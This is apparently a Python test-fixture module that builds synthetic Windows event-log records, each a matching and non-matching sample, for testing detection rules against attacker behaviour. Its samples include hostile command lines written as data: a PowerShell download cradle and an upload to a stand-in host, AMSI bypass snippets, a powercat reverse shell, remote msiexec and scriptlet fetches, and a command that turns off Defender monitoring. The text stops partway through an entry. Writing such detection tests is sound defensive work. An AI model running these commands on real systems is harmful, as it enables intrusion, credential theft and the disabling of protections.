"""Scenes of rules for Windows that no other test has."""

from __future__ import annotations

from typing import Any

from scenes import ACCOUNT, AUDIT, SYSMON, Rows, Scene, event, row, scene, started

DEFENDER = "Microsoft-Windows-Windows Defender"
TASKS = "Microsoft-Windows-TaskScheduler"
FIREWALL = "Microsoft-Windows-Windows Firewall With Advanced Security"
SYSTEM32 = "C:\\Windows\\System32\\"
ACTOR = {"SubjectUserName": "a", "SubjectUserSid": ACCOUNT}
SYSTEM = {"SubjectUserName": "HOST1$", "SubjectUserSid": "S-1-5-18"}
LOG = "windows.eventlog"


def one(hit: Any, miss: Any) -> Scene:
    """A scene of event-log records."""
    return scene(LOG, hit, miss)


def lines(hit: str, miss: str) -> Scene:
    """A scene of command lines."""
    return one(started(hit), started(miss))


def child(parent: str, image: str = "cmd.exe", **more: Any) -> Any:
    """A start below another program."""
    return event(
        1,
        SYSMON,
        CommandLine="x",
        Image=SYSTEM32 + image,
        ParentImage=SYSTEM32 + parent,
        ParentCommandLine=parent,
        User="HOST1\\a",
        **more,
    )


def value(key: str, details: str, image: str = "C:\\Windows\\regedit.exe") -> Any:
    return event(13, SYSMON, TargetObject=key, Details=details, Image=image)


def made(path: str, image: str = "C:\\Users\\a\\x.exe", number: int = 11) -> Any:
    return event(number, SYSMON, TargetFilename=path, Image=image)


def loaded(library: str, image: str, **more: Any) -> Any:
    return event(7, SYSMON, ImageLoaded=library, Image=image, **more)


def shared(target: str, share: str = "\\\\*\\IPC$", address: str = "192.0.2.9", **more: Any) -> Any:
    return event(5145, AUDIT, ShareName=share, RelativeTargetName=target, IpAddress=address, **{**ACTOR, **more})


def block(hit: str, miss: str = "Get-ChildItem C:\\Users") -> Scene:
    """A scene of script texts."""
    posh = "Microsoft-Windows-PowerShell"
    return one(
        event(4104, posh, ScriptBlockText=hit, ScriptBlockId="1"),
        event(4104, posh, ScriptBlockText=miss, ScriptBlockId="1"),
    )


def typed(hit: str, miss: str = "Get-Help about_Files") -> Scene:
    """A scene of PowerShell's own history."""
    path = "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    return scene(
        "linux.history",
        row({"command": hit, "shell": "powershell"}, path=path),
        row({"command": miss, "shell": "powershell"}, path=path),
    )


def burst(number: int, count: int, provider: str = AUDIT, **values: Any) -> Rows:
    """Events a second apart; `{n}` in a value is the event's number."""
    return [
        event(
            number,
            provider,
            f"2026-03-02T10:{n // 60:02d}:{n % 60:02d}Z",
            **{k: v.replace("{n}", str(n)) if isinstance(v, str) else v for k, v in values.items()},
        )
        for n in range(count)
    ]


RUN = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"
HKLM = "HKLM\\SOFTWARE\\Microsoft\\"
CONTROL = "HKLM\\System\\CurrentControlSet\\Control\\"
SERVICES = "HKLM\\System\\CurrentControlSet\\Services\\"
TEMP = "C:\\Users\\a\\AppData\\Local\\Temp\\"
GUID = "{11111111-1111-1111-1111-111111111111}"

SCENES: dict[str, Scene] = {
    # command lines
    "cmd.archive_made": lines("7z.exe a -r out.7z C:\\work -pSecret", "7z.exe a -r out.7z C:\\work"),
    "cmd.archive_staged": lines("rar.exe a C:\\Users\\Public\\o.rar C:\\work", "rar.exe a C:\\work\\o.rar C:\\work"),
    "cmd.autostart_added": lines(
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
        "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    ),
    "cmd.console_snap_in": lines(
        "mmc.exe C:\\Users\\a\\Downloads\\x.msc", "mmc.exe C:\\Windows\\System32\\services.msc"
    ),
    "cmd.control_item": lines("control.exe C:\\Users\\a\\x.cpl", "control.exe C:\\Windows\\System32\\timedate.cpl"),
    "cmd.copy_to_drive": lines("robocopy C:\\work E:\\ /e", "robocopy E:\\ C:\\work /e"),
    "cmd.credential_dump": lines("m.exe privilege::debug", "m.exe --debug"),
    "cmd.decode": lines("certutil -decode a.txt a.exe", "certutil -hashfile a.exe"),
    "cmd.discovery": one(
        burst(1, 5, SYSMON, CommandLine="whoami /user x{n}", Image=SYSTEM32 + "whoami.exe"),
        burst(1, 4, SYSMON, CommandLine="whoami /user x{n}", Image=SYSTEM32 + "whoami.exe"),
    ),
    "cmd.dotnet_utilities": lines(
        "InstallUtil.exe /logfile= /u C:\\Users\\a\\x.dll", "InstallUtil.exe C:\\app\\service.exe"
    ),
    "cmd.driver_or_boot_changed": lines("bcdedit /set testsigning on", "bcdedit /enum"),
    "cmd.firewall_opened": lines(
        "netsh advfirewall firewall add rule name=x dir=in action=allow", "netsh advfirewall show allprofiles"
    ),
    "cmd.from_remote_desktop_share": one(
        event(1, SYSMON, CommandLine="a.exe", Image="\\\\tsclient\\c\\a.exe"),
        event(1, SYSMON, CommandLine="a.exe", Image="\\\\server\\c\\a.exe"),
    ),
    "cmd.group_policy_change": lines("secedit /export /cfg x.inf", "secedit /analyze /db x"),
    "cmd.help_file": lines("hh.exe http://192.0.2.1/a.chm", "hh.exe C:\\Program Files\\x\\help.chm"),
    "cmd.hidden_start": lines("cmd /c start /min C:\\Users\\a\\x.bat", "cmd /c start /min C:\\app\\x.bat"),
    "cmd.management_subscription": lines(
        "powershell Set-WmiInstance -Class __EventFilter", "powershell Get-WmiObject Win32_Process"
    ),
    "cmd.msiexec_remote": lines("msiexec /q /i http://192.0.2.1/a.msi", "msiexec /i C:\\a.msi"),
    "cmd.odbcconf": lines("odbcconf.exe /a {REGSVR x.dll}", "odbcconf.exe /?"),
    "cmd.plugin_library": lines("dnscmd srv /config /serverlevelplugindll \\\\x\\a.dll", "dnscmd srv /info"),
    "cmd.powershell_hidden": lines(
        "powershell -w hidden -ep bypass -f C:\\Users\\Public\\a.ps1", "powershell -ep bypass -f C:\\app\\a.ps1"
    ),
    "cmd.remote_access_tool": lines("AnyDesk.exe --install C:\\x --silent", "AnyDesk.exe --help"),
    "cmd.renamed_script_shell": lines(
        "x.exe [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "x.exe --version"
    ),
    "cmd.rights_enquiry": lines("whoami /priv", "whoami"),
    "cmd.rights_of_files": lines("takeown /f C:\\x", "takeown /?"),
    "cmd.screen_or_input": lines("psr.exe /start /gui 0", "psr.exe /?"),
    "cmd.script_host": lines("wscript.exe C:\\Users\\Public\\a.vbs", "wscript.exe C:\\app\\a.vbs"),
    "cmd.script_proxy": lines("cscript pubprn.vbs 127.0.0.1 script:http://192.0.2.1/a.sct", "cscript slmgr.vbs /dli"),
    "cmd.stored_credential": lines("net use \\\\srv\\c$ /user:a secret", "net use \\\\srv\\c$"),
    "cmd.time_set": lines("powershell (gi a).LastWriteTime = '01/01/2020'", "powershell (gi a).LastWriteTime"),
    "cmd.user_writable_program": one(
        event(1, SYSMON, CommandLine="a", Image="C:\\Users\\Public\\a.exe"),
        event(1, SYSMON, CommandLine="a", Image="C:\\app\\a.exe"),
    ),
    "cmd.vault_read": lines("vaultcmd /list", "vaultcmd /?"),
    # starts below other programs
    "cmd.accessibility_child": one(child("sethc.exe"), child("explorer.exe")),
    "evtx.component_child": one(child("mmc.exe"), child("mmc.exe", "notepad.exe")),
    "evtx.office_child": one(child("WINWORD.EXE", "powershell.exe"), child("WINWORD.EXE", "splwow64.exe")),
    "evtx.remote_management_child": one(child("WmiPrvSE.exe"), child("WmiPrvSE.exe", "werfault.exe")),
    "evtx.remote_shell_child": one(child("wsmprovhost.exe"), child("wsmprovhost.exe", "notepad.exe")),
    "evtx.subscription_child": one(child("scrcons.exe"), child("services.exe")),
    "evtx.web_server_child": one(child("w3wp.exe"), child("w3wp.exe", "csc.exe")),
    "evtx.child_of_system_process": one(child("lsass.exe"), child("explorer.exe")),
    "evtx.component_server_child": one(
        event(
            1, SYSMON, CommandLine="x", Image=SYSTEM32 + "cmd.exe", ParentCommandLine="EXCEL.EXE /automation -Embedding"
        ),
        event(1, SYSMON, CommandLine="x", Image=SYSTEM32 + "cmd.exe", ParentCommandLine="EXCEL.EXE a.xlsx"),
    ),
    "evtx.system_name_wrong_place": one(
        event(1, SYSMON, CommandLine="x", Image="C:\\Users\\a\\svchost.exe"),
        event(1, SYSMON, CommandLine="x", Image=SYSTEM32 + "svchost.exe"),
    ),
    "evtx.elevated_path": one(
        event(1, SYSMON, CommandLine="x", Image="C:\\Windows \\System32\\a.exe"),
        event(1, SYSMON, CommandLine="x", Image="C:\\Windows\\System32\\a.exe"),
    ),
    # changes of accounts, policy and protection
    "evtx.account_enabled": one(
        event(4722, **ACTOR, TargetUserName="helper"), event(4722, **SYSTEM, TargetUserName="helper")
    ),
    "evtx.account_hidden_name": one(
        event(4720, **ACTOR, TargetUserName="helper$"), event(4720, **ACTOR, TargetUserName="helper")
    ),
    "evtx.audit_policy_changed": one(
        event(4719, **ACTOR, AuditPolicyChanges="%%8448"), event(4719, **ACTOR, AuditPolicyChanges="%%8449")
    ),
    "evtx.sid_history": one(
        event(4765, **ACTOR, TargetUserName="a"), event(4738, **ACTOR, TargetUserName="a", SidHistory="-")
    ),
    "evtx.task_created": one(
        event(4698, **ACTOR, TaskName="\\x", TaskContent="<Command>powershell</Command>"),
        event(4698, **SYSTEM, TaskName="\\x", TaskContent="<Command>powershell</Command>"),
    ),
    "evtx.guest_enabled": one(
        event(4722, **ACTOR, TargetUserName="Guest", TargetSid="S-1-5-21-1-2-3-501"),
        event(4722, **ACTOR, TargetUserName="x", TargetSid="S-1-5-21-1-2-3-1501"),
    ),
    "evtx.password_never_or_reset": one(
        event(4724, SubjectUserSid="S-1-5-7", TargetUserName="DC$"), event(4724, **ACTOR, TargetUserName="a")
    ),
    "evtx.recovery_password_set": one(event(4794, **ACTOR), event(4793, **ACTOR)),
    "evtx.delegation_set": one(
        event(5136, **ACTOR, AttributeLDAPDisplayName="msDS-KeyCredentialLink", ObjectDN="CN=a"),
        event(5136, **ACTOR, AttributeLDAPDisplayName="description", ObjectDN="CN=a"),
    ),
    "evtx.directory_object_changed": one(
        event(5136, **ACTOR, ObjectDN="CN=AdminSDHolder,CN=System"), event(5136, **ACTOR, ObjectDN="CN=a")
    ),
    "evtx.firewall_rule": one(
        event(2033, FIREWALL), event(2004, FIREWALL, ApplicationPath="C:\\Program Files\\x\\a.exe")
    ),
    "evtx.defender_action": one(
        event(1117, DEFENDER, **{"Status Code": 2, "Path": "file:_C:\\a.exe"}),
        event(1117, DEFENDER, **{"Status Code": 2, "Path": "CmdLine:_a"}),
    ),
    "evtx.defender_command_detected": one(
        event(1116, DEFENDER, **{"Threat Name": "T", "Path": "CmdLine:_a"}),
        event(1116, DEFENDER, **{"Threat Name": "T", "Path": "file:_C:\\a"}),
    ),
    "evtx.defender_detection": one(event(1116, DEFENDER, **{"Threat Name": "T"}), event(1150, DEFENDER)),
    # logons
    "evtx.database_logon_failures": one(
        burst(18456, 5, "MSSQLSERVER", data_2="x"), burst(18456, 4, "MSSQLSERVER", data_2="x")
    ),
    "evtx.failures_expired": one(
        burst(4625, 5, TargetUserName="a", Status="0xc0000234"), burst(4625, 5, TargetUserName="a", Status="0xc0000071")
    ),
    "evtx.kerberos_failures": one(
        burst(4771, 8, IpAddress="192.0.2.9", Status="0x18"), burst(4771, 8, IpAddress="192.0.2.9", Status="0x17")
    ),
    "evtx.logon_failures_host": one(burst(4625, 10, IpAddress="-"), burst(4625, 10, IpAddress="192.0.2.9")),
    "evtx.logon_new_credentials": one(
        event(4624, LogonType=9, LogonProcessName="seclogo", **ACTOR),
        event(4624, LogonType=2, LogonProcessName="seclogo", **ACTOR),
    ),
    "evtx.password_spray": one(
        burst(4648, 10, TargetUserName="u{n}", **ACTOR), burst(4648, 10, TargetUserName="u", **ACTOR)
    ),
    "evtx.ntlm_guessing": one(
        burst(4776, 10, Workstation="W", Status="0xc000006a"), burst(4776, 10, Workstation="W", Status="0x0")
    ),
    "evtx.ntlm_spray": one(
        burst(4776, 5, Workstation="W", Status="0xc0000064", TargetUserName="u{n}"),
        burst(4776, 5, Workstation="W", Status="0xc0000064", TargetUserName="u"),
    ),
    "evtx.hash_logon": one(
        event(
            4624,
            LogonType=3,
            LogonProcessName="NtLmSsp ",
            KeyLength=0,
            SubjectUserSid="S-1-0-0",
            TargetUserSid=ACCOUNT,
            TargetUserName="a",
            IpAddress="192.0.2.9",
        ),
        event(
            4624,
            LogonType=3,
            LogonProcessName="NtLmSsp ",
            KeyLength=128,
            SubjectUserSid="S-1-0-0",
            TargetUserSid=ACCOUNT,
            TargetUserName="a",
            IpAddress="192.0.2.9",
        ),
    ),
    "evtx.weak_tickets": one(
        burst(4769, 5, TicketEncryptionType="0x17", ServiceName="s{n}", TargetUserName="a"),
        burst(4769, 5, TicketEncryptionType="0x12", ServiceName="s{n}", TargetUserName="a"),
    ),
    "evtx.roastable_ticket": one(
        event(
            4769,
            TicketEncryptionType="0x17",
            TicketOptions="0x40810000",
            Status="0x0",
            ServiceName="sql",
            TargetUserName="a@X",
        ),
        event(
            4769,
            TicketEncryptionType="0x17",
            TicketOptions="0x40810000",
            Status="0x0",
            ServiceName="HOST1$",
            TargetUserName="a@X",
        ),
    ),
    "evtx.member_enumeration": one(
        burst(4799, 3, TargetUserName="g{n}", CallerProcessName=SYSTEM32 + "net1.exe"),
        burst(4799, 3, TargetUserName="g{n}", CallerProcessName=SYSTEM32 + "svchost.exe"),
    ),
    "evtx.vault_listed": one(
        burst(5379, 30, ClientProcessId="1", TargetName="a{n}", CountOfCredentialsReturned=1, **ACTOR),
        burst(5379, 30, ClientProcessId="1", TargetName="a{n}", CountOfCredentialsReturned=0, **ACTOR),
    ),
    "evtx.logon_process_registered": one(
        event(4611, LogonProcessName="Evil", ProcessName="C:\\x.exe", **ACTOR),
        event(4611, LogonProcessName="Winlogon", ProcessName="C:\\x.exe", **ACTOR),
    ),
    # over the network
    "evtx.remote_pipe": one(shared("a.exe", "\\\\*\\ADMIN$"), shared("svcctl")),
    "evtx.service_pipe_remote": one(shared("svcctl"), shared("wkssvc")),
    "evtx.task_pipe_remote": one(shared("atsvc"), shared("wkssvc")),
    "evtx.coercion_pipe": one(shared("efsrpc"), shared("wkssvc")),
    "evtx.shell_output_over_share": one(shared("__output", "\\\\*\\ADMIN$"), shared("output.txt", "\\\\*\\ADMIN$")),
    "evtx.startup_over_share": one(
        shared("Start Menu\\Programs\\Startup\\a.bat", "\\\\*\\C$", AccessMask="0x2"),
        shared("Start Menu\\Programs\\Startup\\a.bat", "\\\\*\\C$", AccessMask="0x1"),
    ),
    # secrets and directory
    "evtx.account_database_access": one(
        event(4663, ObjectName="\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account", ProcessName="C:\\x.exe"),
        event(4663, ObjectName="\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account", ProcessName=SYSTEM32 + "lsass.exe"),
    ),
    "evtx.lsass_object_access": one(
        event(
            4656,
            ObjectName="\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
            AccessMask="0x1410",
            ProcessName="C:\\x.exe",
        ),
        event(
            4656,
            ObjectName="\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
            AccessMask="0x1000",
            ProcessName="C:\\x.exe",
        ),
    ),
    "evtx.directory_replication": one(
        event(4662, **ACTOR, Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"),
        event(
            4662, SubjectUserName="DC2$", SubjectUserSid=ACCOUNT, Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
        ),
    ),
    "evtx.backup_key_read": one(
        event(4662, **ACTOR, ObjectType="SecretObject", ObjectName="Policy\\Secrets\\G$BCKUPKEY_1"),
        event(4662, **ACTOR, ObjectType="SecretObject", ObjectName="Policy\\Secrets\\x"),
    ),
    "evtx.browser_or_vault_file": one(
        event(4663, ObjectName="C:\\Users\\a\\X\\Login Data", ProcessName="C:\\x.exe"),
        event(4663, ObjectName="C:\\Users\\a\\X\\Login Data", ProcessName="C:\\x\\chrome.exe"),
    ),
    "evtx.privileged_object_listed": one(
        event(4661, **ACTOR, ObjectType="SAM_GROUP", ObjectName="S-1-5-21-1-512", AccessMask="0x2d"),
        event(4661, **ACTOR, ObjectType="SAM_GROUP", ObjectName="S-1-5-21-1-513", AccessMask="0x2d"),
    ),
    "evtx.directory_database_engine": one(
        event(325, "ESENT", data_3="C:\\x\\ntds.dit"), event(325, "ESENT", data_3="C:\\Windows\\NTDS\\ntds.dit")
    ),
    "evtx.database_shell_enabled": one(
        event(15457, "MSSQLSERVER", data_0="xp_cmdshell"), event(15457, "MSSQLSERVER", data_0="max degree")
    ),
    "evtx.mail_server_command": one(
        event(1, "MSExchange CmdletLogs", data_0="New-MailboxExportRequest"),
        event(1, "MSExchange CmdletLogs", data_0="Get-Mailbox"),
    ),
    "evtx.print_driver": one(
        event(808, "Microsoft-Windows-PrintService"), event(316, "Microsoft-Windows-PrintService", param1="HP Driver")
    ),
    "evtx.short_lived_task_registered": one(
        [event(106, TASKS, TaskName="\\x"), event(141, TASKS, "2026-03-02T10:01:00Z", TaskName="\\x")],
        [event(106, TASKS, TaskName="\\x"), event(141, TASKS, "2026-03-02T11:00:00Z", TaskName="\\x")],
    ),
    "evtx.task_program_of_concern": one(
        event(200, TASKS, TaskName="\\x", ActionName="C:\\Users\\Public\\a.exe"),
        event(200, TASKS, TaskName="\\x", ActionName="C:\\app\\a.exe"),
    ),
    "evtx.tool_service": one(
        event(7045, "Service Control Manager", ServiceName="mimidrv", ImagePath="x"),
        event(7045, "Service Control Manager", ServiceName="print", ImagePath="x"),
    ),
    "evtx.transfer_job": one(
        event(59, "Microsoft-Windows-Bits-Client", url="http://192.0.2.1/a.exe"),
        event(59, "Microsoft-Windows-Bits-Client", url="https://download.windowsupdate.com/a.exe"),
    ),
    # values in the registry
    "evtx.run_key_set": one(value(RUN, "C:\\Users\\Public\\a.exe"), value(RUN, "C:\\Program Files\\x\\a.exe")),
    "evtx.active_set_up": one(
        value(f"{HKLM}Active Setup\\Installed Components\\{GUID}\\StubPath", "powershell x"),
        value(f"{HKLM}Active Setup\\Installed Components\\{GUID}\\StubPath", "C:\\Program Files\\x.exe"),
    ),
    "evtx.appinit_library": one(
        value(f"{HKLM}Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs", "C:\\x.dll"),
        value(f"{HKLM}Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs", "(Empty)"),
    ),
    "evtx.audit_value": one(
        value(f"{SERVICES}EventLog\\Security\\File", "C:\\x.evtx"), value(f"{SERVICES}EventLog\\Security\\Sources", "x")
    ),
    "evtx.auto_elevation_hijack": one(
        value("HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command", "x"),
        value("HKU\\S-1-5-21-1_Classes\\mailto\\shell\\open\\command", "x"),
    ),
    "evtx.debugger_set": one(
        value(f"{HKLM}Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "cmd"),
        value(f"{HKLM}Windows NT\\CurrentVersion\\Image File Execution Options\\a.exe\\Mitigation", "x"),
    ),
    "evtx.hidden_files_value": one(
        value("HKU\\S\\Explorer\\Advanced\\Hidden", "DWORD (0x00000000)"),
        value("HKU\\S\\Explorer\\Advanced\\Hidden", "DWORD (0x00000000)", "C:\\Windows\\explorer.exe"),
    ),
    "evtx.office_start": one(
        value("HKU\\S\\Software\\Microsoft\\Office test\\Special\\Perf", "C:\\x.dll"),
        value("HKU\\S\\Software\\Microsoft\\Office\\Theme", "1"),
    ),
    "evtx.policy_extension": one(value("HKU\\S\\x\\DelegateExecute", "cmd"), value("HKU\\S\\x\\DelegateExecute", GUID)),
    "evtx.port_forwarded": one(
        value(f"{SERVICES}PortProxy\\v4tov4\\tcp\\0.0.0.0/80", "192.0.2.1/80"),
        value(f"{SERVICES}Tcpip\\Parameters\\x", "1"),
    ),
    "evtx.print_or_time_library": one(
        value(f"{CONTROL}Print\\Monitors\\x\\Driver", "x.dll"), value(f"{CONTROL}Print\\Monitors\\x\\Port", "x.dll")
    ),
    "evtx.profiler_value": one(
        value("HKU\\S\\Environment\\COR_PROFILER", GUID), value("HKU\\S\\Environment\\TEMP", "C:\\x")
    ),
    "evtx.protection_value": one(
        value(f"{HKLM}Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"),
        value(f"{HKLM}Windows Defender\\ProductStatus", "DWORD (0x00000001)"),
    ),
    "evtx.remote_desktop_enabled": one(
        value(f"{CONTROL}Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)"),
        value(f"{CONTROL}Terminal Server\\fDenyTSConnections", "DWORD (0x00000001)"),
    ),
    "evtx.remote_desktop_value": one(
        value(f"{CONTROL}Terminal Server\\fSingleSessionPerUser", "0"),
        value(f"{CONTROL}Terminal Server\\StartRCM", "0"),
    ),
    "evtx.remote_tool_service_value": one(
        value(f"{SERVICES}PSEXESVC\\Start", "3"), value(f"{SERVICES}Spooler\\Start", "3")
    ),
    "evtx.root_certificate": one(
        value(f"{HKLM}SystemCertificates\\ROOT\\Certificates\\AB", "x"),
        value(f"{HKLM}SystemCertificates\\MY\\Certificates\\AB", "x"),
    ),
    "evtx.run_box_line": one(
        value("HKU\\S\\Explorer\\RunMRU\\a", "mshta http://192.0.2.1"), value("HKU\\S\\Explorer\\RunMRU\\a", "notepad")
    ),
    "evtx.screensaver_set": one(
        value("HKU\\S\\Control Panel\\Desktop\\SCRNSAVE.EXE", "C:\\Users\\a\\x.scr"),
        value("HKU\\S\\Control Panel\\Desktop\\SCRNSAVE.EXE", SYSTEM32 + "ssText3d.scr"),
    ),
    "evtx.script_logging_off": one(
        value("HKLM\\x\\ScriptBlockLogging\\EnableScriptBlockLogging", "DWORD (0x00000000)"),
        value("HKLM\\x\\ScriptBlockLogging\\Other", "DWORD (0x00000000)"),
    ),
    "evtx.scriptlet_component": one(
        value(f"HKU\\S\\CLSID\\{GUID}\\InprocServer32", "scrobj.dll"),
        value(f"HKU\\S\\CLSID\\{GUID}\\InprocServer32", "x.dll"),
    ),
    "evtx.service_library": one(
        value(f"{SERVICES}x\\Parameters\\ServiceDll", "C:\\Users\\a\\x.dll"),
        value(f"{SERVICES}x\\Parameters\\ServiceDll", SYSTEM32 + "x.dll"),
    ),
    "evtx.service_set_in_registry": one(
        value(f"{SERVICES}x\\ImagePath", "%COMSPEC% /c a"), value(f"{SERVICES}x\\ImagePath", SYSTEM32 + "a.exe")
    ),
    "evtx.shell_autorun": one(
        value("HKU\\S\\Command Processor\\Autorun", "powershell x"),
        value("HKU\\S\\Command Processor\\DefaultColor", "powershell"),
    ),
    "evtx.task_registry_value": one(
        value(f"{HKLM}Schedule\\TaskCache\\Tree\\x\\SD", "x"), value(f"{HKLM}Schedule\\TaskCache\\Tree\\x\\Id", "x")
    ),
    # what Sysmon says of files, libraries, names and pipes
    "evtx.startup_file": one(
        made("C:\\x\\Start Menu\\Programs\\Startup\\a.lnk"), made("C:\\x\\Start Menu\\Programs\\a.lnk")
    ),
    "evtx.clipboard_by_remote_desktop": one(
        made("C:\\a.exe", SYSTEM32 + "rdpclip.exe"), made("C:\\a.txt", SYSTEM32 + "rdpclip.exe")
    ),
    "evtx.directory_database_file": one(made("C:\\x\\ntds.dit"), made("C:\\Windows\\NTDS\\ntds.dit")),
    "evtx.document_dropped_program": one(
        made("C:\\x\\a.exe", "C:\\O\\WINWORD.EXE"), made("C:\\x\\a.docx", "C:\\O\\WINWORD.EXE")
    ),
    "evtx.double_ending": one(made("C:\\x\\a.pdf.exe"), made("C:\\x\\a.exe")),
    "evtx.dump_file": one(made("C:\\x\\lsass.dmp"), made("C:\\x\\app.dmp")),
    "evtx.library_in_system_folder": one(
        made("C:\\Windows\\System32\\sysprep\\a.dll"), made("C:\\Windows\\System32\\a.dll")
    ),
    "evtx.log_or_trace_file_deleted": one(
        made("C:\\Windows\\Prefetch\\A.EXE-1.pf", number=23),
        made("C:\\Windows\\Prefetch\\A.EXE-1.pf", SYSTEM32 + "svchost.exe", 23),
    ),
    "evtx.remote_shell_file": one(made("C:\\Windows\\__1550000000.1"), made("C:\\Windows\\__1.1")),
    "evtx.service_tool_file": one(made("C:\\Windows\\PSEXESVC.exe"), made("C:\\Windows\\psexec.exe")),
    "evtx.ticket_file": one(made("C:\\x\\a.kirbi"), made("C:\\x\\a.kir")),
    "evtx.debug_library_loaded": one(
        loaded(SYSTEM32 + "dbghelp.dll", SYSTEM32 + "rundll32.exe"),
        loaded(SYSTEM32 + "dbghelp.dll", SYSTEM32 + "werfault.exe"),
    ),
    "evtx.driver_of_concern": one(
        event(6, SYSMON, ImageLoaded="C:\\x\\RTCore64.sys", Signed="true", SignatureStatus="Valid"),
        event(6, SYSMON, ImageLoaded=SYSTEM32 + "drivers\\tcpip.sys", Signed="true", SignatureStatus="Valid"),
    ),
    "evtx.runtime_in_host": one(
        loaded(SYSTEM32 + "clr.dll", SYSTEM32 + "mshta.exe"), loaded(SYSTEM32 + "clr.dll", SYSTEM32 + "mmc.exe")
    ),
    "evtx.shell_library_in_host": one(
        loaded("C:\\x\\System.Management.Automation.dll", SYSTEM32 + "rundll32.exe"),
        loaded("C:\\x\\System.Management.Automation.dll", SYSTEM32 + "powershell.exe"),
    ),
    "evtx.task_library_in_document": one(
        loaded(SYSTEM32 + "taskschd.dll", "C:\\O\\WINWORD.EXE"), loaded(SYSTEM32 + "taskschd.dll", SYSTEM32 + "mmc.exe")
    ),
    "evtx.unsigned_library_beside_program": one(
        loaded(TEMP + "a.dll", SYSTEM32 + "a.exe", Signed="false"),
        loaded(TEMP + "a.dll", SYSTEM32 + "a.exe", Signed="true"),
    ),
    "evtx.side_loading": one(
        loaded(TEMP + "version.dll", TEMP + "a.exe", Signed="false"),
        loaded(SYSTEM32 + "version.dll", TEMP + "a.exe", Signed="true"),
    ),
    "evtx.xsl_library": one(
        loaded(SYSTEM32 + "jscript.dll", SYSTEM32 + "wbem\\WMIC.exe"),
        loaded(SYSTEM32 + "jscript.dll", SYSTEM32 + "wscript.exe"),
    ),
    "evtx.foreign_code_access": one(
        event(
            10,
            SYSMON,
            CallTrace="ntdll.dll+1|UNKNOWN(00001)",
            GrantedAccess="0x1fffff",
            SourceImage=SYSTEM32 + "rundll32.exe",
            TargetImage="C:\\a.exe",
        ),
        event(
            10,
            SYSMON,
            CallTrace="ntdll.dll+1",
            GrantedAccess="0x1fffff",
            SourceImage=SYSTEM32 + "rundll32.exe",
            TargetImage="C:\\a.exe",
        ),
    ),
    "evtx.injection": one(
        event(8, SYSMON, SourceImage="C:\\x.exe", TargetImage="C:\\a.exe"),
        event(8, SYSMON, SourceImage=SYSTEM32 + "csrss.exe", TargetImage="C:\\a.exe"),
    ),
    "evtx.injection_from_script_host": one(
        event(8, SYSMON, SourceImage=SYSTEM32 + "mshta.exe", TargetImage="C:\\a.exe", StartModule="m"),
        event(8, SYSMON, SourceImage="C:\\app\\x.exe", TargetImage="C:\\a.exe", StartModule="m.dll"),
    ),
    "evtx.name_asked_by_system_tool": one(
        event(22, SYSMON, Image=SYSTEM32 + "mshta.exe", QueryName="evil.example"),
        event(22, SYSMON, Image=SYSTEM32 + "mshta.exe", QueryName="www.microsoft.com"),
    ),
    "evtx.name_of_tunnel_service": one(
        event(22, SYSMON, Image="C:\\x.exe", QueryName="a.ngrok.io"),
        event(22, SYSMON, Image="C:\\x.exe", QueryName="ngrok.example"),
    ),
    "evtx.pipe_client_service": one(child("PSEXESVC.exe"), child("services.exe")),
    "evtx.remote_desktop_then_run_line": one(
        [
            event(3, SYSMON, DestinationPort=3389, Initiated=False, SourceIp="192.0.2.9"),
            event(13, SYSMON, "2026-03-02T10:00:30Z", TargetObject="HKU\\S\\Explorer\\RunMRU\\a", Details="x"),
        ],
        [
            event(3, SYSMON, DestinationPort=3389, Initiated=False, SourceIp="192.0.2.9"),
            event(13, SYSMON, "2026-03-02T10:05:30Z", TargetObject="HKU\\S\\Explorer\\RunMRU\\a", Details="x"),
        ],
    ),
    "evtx.tool_pipe": one(
        event(17, SYSMON, PipeName="\\postex_1a2b", Image="C:\\x.exe"),
        event(17, SYSMON, PipeName="\\wkssvc", Image="C:\\x.exe"),
    ),
    "evtx.unusual_network_program": one(
        event(3, SYSMON, Image=SYSTEM32 + "mshta.exe", Initiated=True, DestinationIp="192.0.2.9"),
        event(3, SYSMON, Image=SYSTEM32 + "mshta.exe", Initiated=True, DestinationIp="127.0.0.1"),
    ),
    "evtx.powershell_shell": one(
        event(400, "PowerShell", HostApplication="powershell IEX powercat -e cmd"),
        event(400, "PowerShell", HostApplication="powershell -File C:\\app\\a.ps1"),
    ),
    # script texts and typed lines
    "evtx.powershell_cradle": block("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
    "evtx.powershell_injection": block("[Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed')"),
    "posh.accounts": block("New-LocalUser helper"),
    "posh.code_in_memory": block("[Reflection.Assembly]::Load($bytes)", "[Reflection.AssemblyName]::new('x')"),
    "posh.elevation": block("Invoke-BypassUAC x"),
    "posh.hidden_text": block("$a = [char]105+[char]101+[char]120+[char]32+[char]49", "$a = [char]105"),
    "posh.hides_files_or_times": block("(Get-Item a).LastWriteTime = '01/01/2020'", "(Get-Item a).LastWriteTime"),
    "posh.packing_and_sending": block(
        "$w.UploadFile('http://192.0.2.1', 'a.zip')", "Compress-Archive C:\\work C:\\out.zip"
    ),
    "posh.persistence": block("Register-ScheduledTask -TaskName x", "Get-ScheduledTask -TaskName x"),
    "posh.protection_off": block("Set-MpPreference -DisableRealtimeMonitoring $true", "Get-MpPreference"),
    "posh.recording": block("$g.CopyFromScreen(0,0,0,0,$s)"),
    "posh.remote_execution": block(
